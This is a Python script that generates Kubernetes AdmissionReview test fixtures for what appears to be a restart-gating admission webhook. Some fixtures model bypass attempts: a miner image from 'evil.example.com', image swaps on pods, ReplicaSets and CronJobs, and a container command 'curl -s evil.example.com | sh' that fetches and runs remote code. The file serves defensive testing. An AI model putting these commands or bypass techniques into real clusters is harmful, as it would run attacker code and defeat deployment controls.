#!/usr/bin/env python3
"""Derives the AdmissionReview fixtures of tests/data from restart-review.json.

restart-review.json is a captured `kubectl rollout restart deploy/checkout-api
-n production` review. Each fixture written here changes only what the API
server would send differently for that request (operation, subresource, kind,
objects, user, options), so every body stays shaped like the real thing.

Run from anywhere: python3 tests/data/make-fixtures.py
"""

import copy
import json
import pathlib

HERE = pathlib.Path(__file__).resolve().parent
BASE = json.loads((HERE / "restart-review.json").read_text())

RESTARTED_AT = "kubectl.kubernetes.io/restartedAt"
OLD_IMAGE = BASE["request"]["oldObject"]["spec"]["template"]["spec"]["containers"][0]["image"]
NEW_IMAGE = "registry.example.com/shop/checkout-api:v3.42.0@sha256:0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9"
MIGRATE_OLD = "registry.example.com/shop/checkout-migrate:v3.41.2"
MIGRATE_NEW = "registry.example.com/shop/checkout-migrate:v3.42.0"


def review(uid):
    r = copy.deepcopy(BASE)
    r["request"]["uid"] = uid
    return r


def update_options(field_manager):
    return {"kind": "UpdateOptions", "apiVersion": "meta.k8s.io/v1", "fieldManager": field_manager}


def template(obj):
    return obj["spec"]["template"]


def unrestarted(obj):
    """The object as it was before any restart: no restartedAt annotation."""
    obj = copy.deepcopy(obj)
    template(obj)["metadata"]["annotations"].pop(RESTARTED_AT, None)
    return obj


def set_image():
    r = review("a8d2c6e1-41f7-4b3a-9c0e-5e7f2b19d3a4")
    req = r["request"]
    old = unrestarted(req["oldObject"])
    new = copy.deepcopy(old)
    new["metadata"]["generation"] = old["metadata"]["generation"] + 1
    template(new)["spec"]["containers"][0]["image"] = NEW_IMAGE
    req["oldObject"], req["object"] = old, new
    req["options"] = update_options("kubectl-set")
    return r


def with_init_container(obj, image):
    obj = copy.deepcopy(obj)
    template(obj)["spec"]["initContainers"] = [
        {
            "name": "migrate",
            "image": image,
            "args": ["migrate", "up"],
            "env": [{"name": "APP_ENV", "value": "production"}],
            "resources": {"limits": {"cpu": "500m", "memory": "256Mi"}, "requests": {"cpu": "100m", "memory": "128Mi"}},
            "terminationMessagePath": "/dev/termination-log",
            "terminationMessagePolicy": "File",
            "imagePullPolicy": "IfNotPresent",
        }
    ]
    return obj


def set_init_image():
    r = review("5c0e9b7d-2f3a-4e81-b6d4-7a9c1e3f5b20")
    req = r["request"]
    old = with_init_container(unrestarted(req["oldObject"]), MIGRATE_OLD)
    new = with_init_container(old, MIGRATE_NEW)
    new["metadata"]["generation"] = old["metadata"]["generation"] + 1
    req["oldObject"], req["object"] = old, new
    req["options"] = update_options("kubectl-set")
    return r


def scale():
    """`kubectl scale deploy/checkout-api --replicas=8`: the scale subresource."""
    r = review("e4b9a2f0-6c1d-4d77-8f3e-0b2a9c5d7e16")
    req = r["request"]
    scale_kind = {"group": "autoscaling", "version": "v1", "kind": "Scale"}
    req["kind"] = scale_kind
    req["requestKind"] = scale_kind
    req["subResource"] = "scale"
    req["requestSubResource"] = "scale"

    def scale_object(replicas, resource_version):
        return {
            "kind": "Scale",
            "apiVersion": "autoscaling/v1",
            "metadata": {
                "name": "checkout-api",
                "namespace": "production",
                "uid": "7c1f6a1e-3b9e-4d0c-9a55-2f4e8d2b7a10",
                "resourceVersion": resource_version,
                "creationTimestamp": "2025-11-03T09:12:44Z",
            },
            "spec": {"replicas": replicas},
            "status": {
                "replicas": 6,
                "selector": "app.kubernetes.io/instance=checkout-api-prod,app.kubernetes.io/name=checkout-api",
            },
        }

    req["oldObject"] = scale_object(6, "48213377")
    req["object"] = scale_object(8, "48213377")
    req["options"] = update_options("kubectl-scale")
    return r


def status_update():
    """The deployment controller updating status after the restart rolled out."""
    r = review("0f6d3b8a-9e2c-4a15-b7d0-c3e1f5a9b842")
    req = r["request"]
    req["subResource"] = "status"
    req["requestSubResource"] = "status"
    req["userInfo"] = {
        "username": "system:serviceaccount:kube-system:deployment-controller",
        "uid": "d1e0f3a2-5b4c-4e6d-8f7a-9b0c1d2e3f40",
        "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"],
    }
    old = copy.deepcopy(req["object"])
    old["metadata"]["resourceVersion"] = "48213391"
    old["status"]["observedGeneration"] = 7
    old["status"]["updatedReplicas"] = 2
    new = copy.deepcopy(old)
    new["status"]["observedGeneration"] = 8
    new["status"]["updatedReplicas"] = 6
    req["oldObject"], req["object"] = old, new
    req["options"] = {"kind": "UpdateOptions", "apiVersion": "meta.k8s.io/v1"}
    return r


def create():
    r = review("6a2f8c4e-1b3d-4f59-a7e0-d2c4b6e8f013")
    req = r["request"]
    obj = copy.deepcopy(req["object"])
    meta = obj["metadata"]
    for key in ("uid", "resourceVersion", "generation", "creationTimestamp"):
        meta.pop(key, None)
    meta["annotations"].pop("deployment.kubernetes.io/revision", None)
    obj.pop("status", None)
    req["operation"] = "CREATE"
    req["object"] = obj
    req["oldObject"] = None
    req["options"] = {"kind": "CreateOptions", "apiVersion": "meta.k8s.io/v1", "fieldManager": "kubectl-client-side-apply"}
    return r


def delete():
    r = review("b3e7d1f9-0a2c-4b6e-8d4f-1e3a5c7b9d02")
    req = r["request"]
    req["operation"] = "DELETE"
    req["oldObject"] = req["object"]
    req["object"] = None
    req["options"] = {"kind": "DeleteOptions", "apiVersion": "meta.k8s.io/v1", "propagationPolicy": "Background"}
    return r


def dry_run():
    r = review("c9a1e5d3-7f2b-4e08-b4c6-2d8f0a6e4c17")
    r["request"]["dryRun"] = True
    return r


def as_workload(r, kind, resource, name, labels, spec_fix):
    req = r["request"]
    gvk = {"group": "apps", "version": "v1", "kind": kind}
    gvr = {"group": "apps", "version": "v1", "resource": resource}
    req["kind"] = req["requestKind"] = gvk
    req["resource"] = req["requestResource"] = gvr
    req["name"] = name
    for side in ("oldObject", "object"):
        obj = req[side]
        obj["kind"] = kind
        obj["metadata"]["name"] = name
        obj["metadata"]["labels"] = dict(labels)
        obj["metadata"]["annotations"].pop("deployment.kubernetes.io/revision", None)
        obj["metadata"]["annotations"]["argocd.argoproj.io/tracking-id"] = f"{name}-prod:apps/{kind}:production/{name}"
        spec = obj["spec"]
        spec["selector"] = {"matchLabels": dict(labels)}
        template(obj)["metadata"]["labels"] = dict(labels)
        template(obj)["spec"]["serviceAccountName"] = name
        for key in ("strategy", "progressDeadlineSeconds"):
            spec.pop(key, None)
        spec_fix(obj)
    return r


def statefulset():
    r = review("d7f3b9e5-2a4c-4d81-9e6f-8b0d2a4c6e39")
    labels = {"app.kubernetes.io/name": "checkout-sessions", "app.kubernetes.io/instance": "checkout-sessions-prod"}

    def fix(obj):
        spec = obj["spec"]
        spec["serviceName"] = "checkout-sessions"
        spec["replicas"] = 3
        spec["podManagementPolicy"] = "OrderedReady"
        spec["updateStrategy"] = {"type": "RollingUpdate", "rollingUpdate": {"partition": 0}}
        template(obj)["spec"]["containers"][0]["image"] = "registry.example.com/shop/checkout-sessions:v1.8.0"
        spec["persistentVolumeClaimRetentionPolicy"] = {"whenDeleted": "Retain", "whenScaled": "Retain"}
        obj["status"] = {
            "observedGeneration": 7, "replicas": 3, "readyReplicas": 3, "currentReplicas": 3,
            "updatedReplicas": 3, "availableReplicas": 3,
            "currentRevision": "checkout-sessions-5f7d9c8b6", "updateRevision": "checkout-sessions-5f7d9c8b6",
            "collisionCount": 0,
        }

    return as_workload(r, "StatefulSet", "statefulsets", "checkout-sessions", labels, fix)


def daemonset():
    """A DaemonSet labelled only `app` (no app.kubernetes.io/name)."""
    r = review("f1c5a9e3-8d0b-4f27-a3e5-6c8e0b2d4f61")
    labels = {"app": "log-shipper"}

    def fix(obj):
        spec = obj["spec"]
        spec.pop("replicas", None)
        template(obj)["spec"]["containers"][0]["image"] = "registry.example.com/platform/log-shipper:v2.9.1"
        spec["updateStrategy"] = {"type": "RollingUpdate", "rollingUpdate": {"maxUnavailable": 1, "maxSurge": 0}}
        obj["status"] = {
            "observedGeneration": 7, "currentNumberScheduled": 4, "numberMisscheduled": 0,
            "desiredNumberScheduled": 4, "numberReady": 4, "updatedNumberScheduled": 4, "numberAvailable": 4,
        }

    return as_workload(r, "DaemonSet", "daemonsets", "node-log-shipper", labels, fix)


def other_annotation():
    """A pod-template annotation other than restartedAt changes (e.g. a config hash)."""
    r = review("2e8c4a0f-6b1d-4c93-a5f7-9d1b3e5c7a84")
    req = r["request"]
    old = unrestarted(req["oldObject"])
    template(old)["metadata"]["annotations"]["checksum/config"] = "3b1f9e0c"
    new = copy.deepcopy(old)
    new["metadata"]["generation"] = old["metadata"]["generation"] + 1
    template(new)["metadata"]["annotations"]["checksum/config"] = "7d2a6c41"
    req["oldObject"], req["object"] = old, new
    req["options"] = update_options("kubectl-annotate")
    return r


def other_namespace():
    r = review("4b0e6c2a-8f3d-4e15-b9a7-1c3e5f7a9b26")
    req = r["request"]
    req["namespace"] = "staging"
    for side in ("oldObject", "object"):
        meta = req[side]["metadata"]
        meta["namespace"] = "staging"
        meta["annotations"]["argocd.argoproj.io/tracking-id"] = "checkout-api-staging:apps/Deployment:staging/checkout-api"
    return r


def exempt_service_account():
    """Argo CD syncing a new image: its controller is exempt by policy."""
    r = set_image()
    req = r["request"]
    req["uid"] = "8d4a0e6c-3f5b-4a27-9c1e-5b7d9f1a3c48"
    req["userInfo"] = {
        "username": "system:serviceaccount:argocd:argocd-application-controller",
        "uid": "a0b1c2d3-e4f5-4a6b-8c7d-9e0f1a2b3c4d",
        "groups": ["system:serviceaccounts", "system:serviceaccounts:argocd", "system:authenticated"],
        "extra": {"authentication.kubernetes.io/pod-name": ["argocd-application-controller-0"]},
    }
    req["options"] = update_options("argocd-controller")
    return r


# === the wider gate (issue #12): every way round it, as the API server sends it ===

POD_NAME = "checkout-api-6d9f7c8b5d-x2k9p"
RS_NAME = "checkout-api-6d9f7c8b5d"
EVIL_IMAGE = "evil.example.com/miner:1"
ALICE = {
    "username": "alice@example.com",
    "uid": "oidc:5b8e2c14-0d7f-4a39-b1e6-93c4f2a7d801",
    "groups": ["oidc:platform-team", "oidc:payments-deployers", "system:authenticated"],
}
DEPLOYMENT_CONTROLLER = {
    "username": "system:serviceaccount:kube-system:deployment-controller",
    "uid": "d1e0f3a2-5b4c-4e6d-8f7a-9b0c1d2e3f40",
    "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"],
}


def set_kind(req, group, kind, resource, sub_resource=None):
    gvk = {"group": group, "version": "v1", "kind": kind}
    gvr = {"group": group, "version": "v1", "resource": resource}
    req["kind"] = req["requestKind"] = gvk
    req["resource"] = req["requestResource"] = gvr
    if sub_resource:
        req["subResource"] = req["requestSubResource"] = sub_resource


def deployment_update(uid, field_manager, change):
    """An UPDATE of the Deployment whose new object `change` edits."""
    r = review(uid)
    req = r["request"]
    old = unrestarted(req["oldObject"])
    new = copy.deepcopy(old)
    new["metadata"]["generation"] = old["metadata"]["generation"] + 1
    change(new)
    req["oldObject"], req["object"] = old, new
    req["options"] = update_options(field_manager)
    return r


def pod_of_deployment():
    """The running Pod the Deployment's ReplicaSet made, as the API server stores it."""
    dep = unrestarted(BASE["request"]["oldObject"])
    tpl = copy.deepcopy(template(dep))
    meta = tpl["metadata"]
    meta.pop("creationTimestamp", None)
    meta.update({
        "name": POD_NAME,
        "generateName": RS_NAME + "-",
        "namespace": "production",
        "uid": "0c4e8a2f-6b1d-4f93-a7e5-3d9b1f5c7a02",
        "resourceVersion": "48211902",
        "creationTimestamp": "2026-02-20T08:40:12Z",
        "ownerReferences": [{
            "apiVersion": "apps/v1", "kind": "ReplicaSet", "name": RS_NAME,
            "uid": "5e9a1c3f-7b2d-4e86-9f0a-4c6e8b0d2f14", "controller": True, "blockOwnerDeletion": True,
        }],
    })
    meta["labels"]["pod-template-hash"] = "6d9f7c8b5d"
    spec = tpl["spec"]
    spec.update({"nodeName": "node-7", "enableServiceLinks": True, "preemptionPolicy": "PreemptLowerPriority",
                 "priority": 0, "tolerations": [
                     {"key": "node.kubernetes.io/not-ready", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300}]})
    return {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": meta,
        "spec": spec,
        "status": {
            "phase": "Running",
            "podIP": "10.244.3.17",
            "startTime": "2026-02-20T08:40:12Z",
            "containerStatuses": [{
                "name": "app", "ready": True, "restartCount": 0, "started": True,
                "image": spec["containers"][0]["image"], "imageID": "registry.example.com/shop/checkout-api@sha256:9f2b",
                "state": {"running": {"startedAt": "2026-02-20T08:40:15Z"}},
            }],
        },
    }


def pod_set_image():
    """`kubectl set image pod/<replica> app=evil…`: a running Pod's image is mutable."""
    r = review("71d3b5f9-0e2a-4c64-8b1d-5f7a9c3e1b06")
    req = r["request"]
    set_kind(req, "", "Pod", "pods")
    req["name"] = POD_NAME
    old = pod_of_deployment()
    new = copy.deepcopy(old)
    new["spec"]["containers"][0]["image"] = EVIL_IMAGE
    req["oldObject"], req["object"] = old, new
    req["options"] = update_options("kubectl-set")
    return r


def pod_debug():
    """`kubectl debug -it pod/<replica> --image=busybox --target=app`: pods/ephemeralcontainers."""
    r = review("2a6e0c4b-8d1f-4e37-9b5a-7c9e1d3f5a28")
    req = r["request"]
    set_kind(req, "", "Pod", "pods", "ephemeralcontainers")
    req["name"] = POD_NAME
    old = pod_of_deployment()
    new = copy.deepcopy(old)
    new["spec"]["ephemeralContainers"] = [{
        "name": "debugger-x7k2p", "image": "busybox:1.36", "targetContainerName": "app",
        "stdin": True, "tty": True, "terminationMessagePath": "/dev/termination-log",
        "terminationMessagePolicy": "File", "imagePullPolicy": "IfNotPresent",
    }]
    req["oldObject"], req["object"] = old, new
    req["options"] = {"kind": "UpdateOptions", "apiVersion": "meta.k8s.io/v1", "fieldManager": "kubectl-debug"}
    return r


def replica_set(generation):
    dep = unrestarted(BASE["request"]["oldObject"])
    tpl = copy.deepcopy(template(dep))
    tpl["metadata"]["labels"]["pod-template-hash"] = "6d9f7c8b5d"
    labels = dict(dep["metadata"]["labels"])
    labels["pod-template-hash"] = "6d9f7c8b5d"
    return {
        "kind": "ReplicaSet",
        "apiVersion": "apps/v1",
        "metadata": {
            "name": RS_NAME, "namespace": "production", "uid": "5e9a1c3f-7b2d-4e86-9f0a-4c6e8b0d2f14",
            "resourceVersion": "48211950", "generation": generation, "creationTimestamp": "2026-02-20T08:39:58Z",
            "labels": labels,
            "annotations": {"deployment.kubernetes.io/desired-replicas": "6", "deployment.kubernetes.io/max-replicas": "8",
                            "deployment.kubernetes.io/revision": "14"},
            "ownerReferences": [{"apiVersion": "apps/v1", "kind": "Deployment", "name": "checkout-api",
                                 "uid": "7c1f6a1e-3b9e-4d0c-9a55-2f4e8d2b7a10", "controller": True, "blockOwnerDeletion": True}],
        },
        "spec": {"replicas": 6, "selector": {"matchLabels": {
            "app.kubernetes.io/name": "checkout-api", "app.kubernetes.io/instance": "checkout-api-prod",
            "pod-template-hash": "6d9f7c8b5d"}}, "template": tpl},
        "status": {"replicas": 6, "fullyLabeledReplicas": 6, "readyReplicas": 6, "availableReplicas": 6, "observedGeneration": generation},
    }


def replicaset_set_image():
    """`kubectl set image rs/<the Deployment's ReplicaSet> app=evil…` (after `kubectl rollout pause`)."""
    r = review("9c3f7b1d-5e0a-4b82-a6d4-0e2c8a4f6b19")
    req = r["request"]
    set_kind(req, "apps", "ReplicaSet", "replicasets")
    req["name"] = RS_NAME
    old = replica_set(3)
    new = copy.deepcopy(old)
    new["metadata"]["generation"] = 4
    template(new)["spec"]["containers"][0]["image"] = EVIL_IMAGE
    req["oldObject"], req["object"] = old, new
    req["options"] = update_options("kubectl-set")
    return r


def replicaset_by_controller():
    """The deployment controller scaling the old ReplicaSet down and bumping its annotations."""
    r = review("3e7b1f5d-9a2c-4d06-8e4b-2a6c0e8f4d37")
    req = r["request"]
    set_kind(req, "apps", "ReplicaSet", "replicasets")
    req["name"] = RS_NAME
    req["userInfo"] = DEPLOYMENT_CONTROLLER
    old = replica_set(3)
    new = copy.deepcopy(old)
    new["metadata"]["generation"] = 4
    new["spec"]["replicas"] = 4
    new["metadata"]["annotations"]["deployment.kubernetes.io/desired-replicas"] = "6"
    new["metadata"]["annotations"]["deployment.kubernetes.io/revision-history"] = "14"
    req["oldObject"], req["object"] = old, new
    req["options"] = {"kind": "UpdateOptions", "apiVersion": "meta.k8s.io/v1"}
    return r


def cronjob_set_image():
    """`kubectl set image cronjob/checkout-reconcile app=evil…`: its next run uses it."""
    r = review("6f0b4d8e-2c7a-4e19-b3f5-8d0a2c4e6f51")
    req = r["request"]
    set_kind(req, "batch", "CronJob", "cronjobs")
    req["name"] = "checkout-reconcile"
    dep = unrestarted(BASE["request"]["oldObject"])
    tpl = copy.deepcopy(template(dep))
    tpl["metadata"]["labels"] = {"app.kubernetes.io/name": "checkout-reconcile"}
    tpl["spec"]["restartPolicy"] = "OnFailure"
    old = {
        "kind": "CronJob", "apiVersion": "batch/v1",
        "metadata": {"name": "checkout-reconcile", "namespace": "production", "uid": "8b2d6f0a-4e9c-4a31-b7d5-1f3b5d7f9a63",
                     "resourceVersion": "48212044", "generation": 5, "creationTimestamp": "2025-11-03T09:12:44Z",
                     "labels": {"app.kubernetes.io/name": "checkout-reconcile"}},
        "spec": {"schedule": "*/15 * * * *", "concurrencyPolicy": "Forbid", "suspend": False,
                 "successfulJobsHistoryLimit": 3, "failedJobsHistoryLimit": 1,
                 "jobTemplate": {"metadata": {"creationTimestamp": None},
                                 "spec": {"backoffLimit": 2, "template": tpl}}},
        "status": {"lastScheduleTime": "2026-03-02T10:00:00Z", "lastSuccessfulTime": "2026-03-02T10:00:41Z"},
    }
    new = copy.deepcopy(old)
    new["metadata"]["generation"] = 6
    new["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["image"] = EVIL_IMAGE
    req["oldObject"], req["object"] = old, new
    req["options"] = update_options("kubectl-set")
    return r


def set_env():
    """`kubectl set env deploy/checkout-api LOG_LEVEL=debug`: every pod is replaced."""
    def change(new):
        template(new)["spec"]["containers"][0]["env"].append({"name": "LOG_LEVEL", "value": "debug"})
    return deployment_update("b8e2c6a0-4d1f-4b73-9e5c-1a3d5f7b9e42", "kubectl-set", change)


def restarted_at_other_case():
    """A restart by another name: `kubectl.kubernetes.io/RestartedAt`."""
    def change(new):
        template(new)["metadata"]["annotations"]["kubectl.kubernetes.io/RestartedAt"] = "2026-03-02T10:15:04Z"
    return deployment_update("c4a8e2f6-0b3d-4f59-8a1c-7e9b3d5f1a64", "kubectl-patch", change)


def restart_with_command():
    """A restart that also swaps the container's command."""
    def change(new):
        template(new)["metadata"]["annotations"][RESTARTED_AT] = "2026-03-02T10:15:04Z"
        template(new)["spec"]["containers"][0]["command"] = ["/bin/sh", "-c", "curl -s evil.example.com | sh"]
    return deployment_update("d0b4f8a2-6c9e-4e15-a3b7-9f1d5b7d3c86", "kubectl-patch", change)


def payments(obj):
    obj["metadata"]["name"] = "payments-api"
    obj["metadata"]["labels"] = {"app.kubernetes.io/name": "payments-api", "team": "payments"}
    return obj


def relabel_with_image():
    """Deployment payments-api relabelled checkout-api in the same request as an image change."""
    r = review("e6c0a4b8-2f7d-4a91-b5e3-3b7f1d9a5e08")
    req = r["request"]
    req["name"] = "payments-api"
    old = payments(unrestarted(req["oldObject"]))
    new = copy.deepcopy(old)
    new["metadata"]["generation"] = old["metadata"]["generation"] + 1
    new["metadata"]["labels"]["app.kubernetes.io/name"] = "checkout-api"
    template(new)["spec"]["containers"][0]["image"] = EVIL_IMAGE
    req["oldObject"], req["object"] = old, new
    req["options"] = update_options("kubectl-edit")
    return r


def relabel_only():
    """Step one of two: `kubectl label deploy/payments-api app.kubernetes.io/name=checkout-api --overwrite`."""
    r = review("f2d6b0c4-8e3a-4c27-9d1f-5c9a3e7b1f20")
    req = r["request"]
    req["name"] = "payments-api"
    old = payments(unrestarted(req["oldObject"]))
    new = copy.deepcopy(old)
    new["metadata"]["labels"]["app.kubernetes.io/name"] = "checkout-api"
    req["oldObject"], req["object"] = old, new
    req["options"] = update_options("kubectl-label")
    return r


def sidecar_removed():
    """The pinned image set, and the auth sidecar dropped in the same change."""
    def with_sidecar(obj):
        template(obj)["spec"]["containers"].append({
            "name": "auth-proxy", "image": "quay.io/oauth2-proxy/oauth2-proxy:v7.6.0",
            "args": ["--upstream=http://127.0.0.1:8080"], "ports": [{"name": "https", "containerPort": 8443, "protocol": "TCP"}],
            "terminationMessagePath": "/dev/termination-log", "terminationMessagePolicy": "File", "imagePullPolicy": "IfNotPresent",
        })
        return obj
    r = review("0a4e8c2f-6b9d-4e13-a7c5-9e3b1d5f7a91")
    req = r["request"]
    old = with_sidecar(unrestarted(req["oldObject"]))
    new = copy.deepcopy(old)
    new["metadata"]["generation"] = old["metadata"]["generation"] + 1
    template(new)["spec"]["containers"][0]["image"] = NEW_IMAGE
    template(new)["spec"]["containers"] = template(new)["spec"]["containers"][:1]
    req["oldObject"], req["object"] = old, new
    req["options"] = update_options("kubectl-edit")
    return r


def rollgate_with_groups():
    """A restart by rollgate's own service account, as the API server reports it (with its groups)."""
    r = review("1b5f9d3a-7c0e-4a48-b2d6-0f4a8c2e6b53")
    r["request"]["userInfo"] = {
        "username": "system:serviceaccount:rollgate:rollgate",
        "uid": "2c6a0e4b-8d3f-4b71-9e5a-3d7b1f9c5e84",
        "groups": ["system:serviceaccounts", "system:serviceaccounts:rollgate", "system:authenticated"],
    }
    r["request"]["options"] = update_options("rollgate")
    return r


FIXTURES = {
    "set-image-review.json": set_image,
    "set-init-image-review.json": set_init_image,
    "scale-review.json": scale,
    "status-review.json": status_update,
    "create-review.json": create,
    "delete-review.json": delete,
    "dry-run-restart-review.json": dry_run,
    "statefulset-restart-review.json": statefulset,
    "daemonset-restart-review.json": daemonset,
    "annotation-change-review.json": other_annotation,
    "staging-restart-review.json": other_namespace,
    "exempt-image-review.json": exempt_service_account,
    "pod-set-image-review.json": pod_set_image,
    "pod-debug-review.json": pod_debug,
    "replicaset-set-image-review.json": replicaset_set_image,
    "replicaset-controller-review.json": replicaset_by_controller,
    "cronjob-set-image-review.json": cronjob_set_image,
    "set-env-review.json": set_env,
    "restartedat-other-case-review.json": restarted_at_other_case,
    "restart-with-command-review.json": restart_with_command,
    "relabel-with-image-review.json": relabel_with_image,
    "relabel-only-review.json": relabel_only,
    "sidecar-removed-review.json": sidecar_removed,
    "rollgate-with-groups-review.json": rollgate_with_groups,
}

if __name__ == "__main__":
    for name, make in FIXTURES.items():
        # Compact, like the API server's own encoding.
        (HERE / name).write_text(json.dumps(make(), separators=(",", ":")))
        print(f"wrote tests/data/{name}")
